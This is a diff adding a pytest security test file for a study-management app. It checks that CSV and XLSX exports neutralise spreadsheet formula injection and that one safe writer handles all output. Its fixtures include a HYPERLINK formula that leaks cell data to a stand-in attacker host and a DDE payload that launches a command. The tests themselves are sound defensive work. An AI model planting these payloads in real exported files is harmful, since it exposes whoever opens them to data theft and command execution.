@@ -1,0 +1,133 @@
+"""Bad-input attacks: formula injection through every CSV/XLSX output (one writer for all of them),
+papers whose near-identical titles made duplicate detection quadratic, files beyond reason in size,
+claims files that are not UTF-8, a mistyped dataset, a changed claim text, and snapshot paths that
+name any file on the server."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from pathlib import Path
+
+import pytest
+
+from studyapp.services.interviews.imports import import_transcripts
+from studyapp.services.interviews.spans import add_span
+from studyapp.services.study.study import init_study
+from tests.security.conftest import run_cli
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+SUM(1+1)", "@SUM(A1)", "-2+3"]
+
+INTERVIEW_CODEBOOK = """\
+id: inj
+title: Injection
+version: "1"
+kind: interview
+fields:
+  - id: theme
+    label: Theme
+    type: multi
+    codes:
+      - {id: a, label: '=HYPERLINK("http://evil.example/?leak="&A1,"x")'}
+      - {id: b, label: "+SUM(1+1)"}
+"""
+
+
+def _cells(text: str) -> list[str]:
+    return [c for row in csv.reader(io.StringIO(text)) for c in row]
+
+
+def _no_formula(text: str) -> None:
+    bad = [c for c in _cells(text) if c.startswith(("=", "+", "@", "\t", "\r"))
+           or (c.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?([eE][+-]?\d+)?", c))]
+    assert not bad, f"formula cells: {bad}"
+
+
+@pytest.fixture
+def interview_study(tmp_path):
+    cb = tmp_path / "inj.yaml"
+    cb.write_text(INTERVIEW_CODEBOOK, encoding="utf-8")
+    store = init_study(tmp_path / "iv", title="=cmd|' /C calc'!A0", codebooks=[cb])
+    store.coders.add("lea", "lead")
+    store.coders.add("@bob")
+    t = tmp_path / "interview-01.txt"
+    t.write_text("Interviewer: Q?\n\nP1: =HYPERLINK(\"http://evil.example\") +SUM(1+1) said the participant.\n",
+                 encoding="utf-8")
+    import_transcripts(store, [t], participant="=P1")
+    seg = store.units.by_key("segment", "interview-01:2")
+    add_span(store, seg["id"], "@bob", 0, 20, ["theme:a", "theme:b"], codebook="inj")
+    add_span(store, seg["id"], "lea", 0, 10, ["theme:a"], codebook="inj")
+    yield store
+    store.close()
+
+
+@pytest.mark.parametrize("command", [["spans"], ["frequencies", "--codebook", "inj"],
+                                     ["cooccurrence", "--codebook", "inj"], ["matrix", "--codebook", "inj"],
+                                     ["matrix", "--codebook", "inj", "--cells", "quotes"]],
+                         ids=["spans", "frequencies", "cooccurrence", "matrix", "matrix-quotes"])
+def test_interview_tables_as_csv_carry_no_formula(interview_study, command):
+    out = run_cli("interviews", command[0], interview_study.folder, *command[1:], "--format", "csv", code=0)
+    assert out.strip(), out
+    _no_formula(out)
+
+
+def test_irr_csv_carries_no_formula(tmp_path):
+    head = "id," + ",".join(f'"{f.replace(chr(34), chr(34) * 2)}"' for f in FORMULAS[:2]) + "\n"
+    a, b = tmp_path / "=ann.csv", tmp_path / "bo.csv"
+    a.write_text(head + "u1,x,y\nu2,x,z\nu3,y,y\n", encoding="utf-8")
+    b.write_text(head + "u1,x,y\nu2,y,z\nu3,y,z\n", encoding="utf-8")
+    out = run_cli("irr", a, b, "--key", "id", "--format", "csv", "--n-boot", "0", code=0)
+    assert "HYPERLINK" in out
+    _no_formula(out)
+
+
+def test_the_agreement_report_and_crosstab_csv_carry_no_formula(study):
+    from studyapp.services.agreement import report
+    from studyapp.services.coding.coding import CodingRow, code_many
+    from studyapp.services.defects import crosstab
+
+    study.rounds.ensure("=r1", "+Round", actor="lea")
+    units = [study.units.by_key("defect", f"D{i}")["id"] for i in (1, 2, 3)]
+    code_many(study, [CodingRow(u, "tiny", "stage", c, v, round="=r1") for u, c, v in
+                      ((units[0], "bob", "env"), (units[0], "chen", "env"), (units[1], "bob", "train"),
+                       (units[1], "chen", "env"), (units[2], "bob", "env"), (units[2], "chen", "env"))])
+    _no_formula(report.render(study, "csv", "tiny", n_boot=0))
+    code_many(study, [CodingRow(u, "tiny", "severity", "bob", "low") for u in units])
+    _no_formula(crosstab.render(crosstab.crosstab(study, "stage", "severity", codebook="tiny", coder="bob"), "csv"))
+
+
+def test_the_extraction_workbook_holds_no_formula_cell(tmp_path):
+    import openpyxl
+
+    from studyapp.paths import CODEBOOKS_DIR
+    from studyapp.services.papers import exports
+
+    store = init_study(tmp_path / "slr", title="SLR", codebooks=[CODEBOOKS_DIR / "ptm-reuse-slr.yaml"])
+    store.coders.add("lea", "lead")
+    from studyapp.services.papers import extraction
+    cb = extraction.setup(store)
+    field = cb.fields[0]
+    import dataclasses
+    poisoned = dataclasses.replace(field, label='=HYPERLINK("http://evil.example","x")', definition="+SUM(1+1)")
+    monkey = dataclasses.replace(cb, fields=(poisoned,) + cb.fields[1:])
+    orig = extraction.setup
+    try:
+        extraction.setup = lambda s: monkey
+        data = exports.extraction_xlsx(store, "lea")
+    finally:
+        extraction.setup = orig
+    wb = openpyxl.load_workbook(io.BytesIO(data))
+    formulas = [c.value for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert not formulas, formulas
+    store.close()
+
+
+def test_the_one_writer_rule():
+    """No CSV or spreadsheet is written but through domain/spreadsheet_safe.py or render/tables.py."""
+    root = Path(__file__).resolve().parents[2] / "studyapp"
+    allowed = {root / "domain" / "spreadsheet_safe.py", root / "render" / "tables.py"}
+    pattern = re.compile(r"\bcsv\.(writer|DictWriter)\(|\.to_csv\(|\.to_excel\(")
+    offenders = [f"{p.relative_to(root.parent)}:{n}" for p in root.rglob("*.py") if p not in allowed
+                 for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1) if pattern.search(line)]
+    assert not offenders, offenders
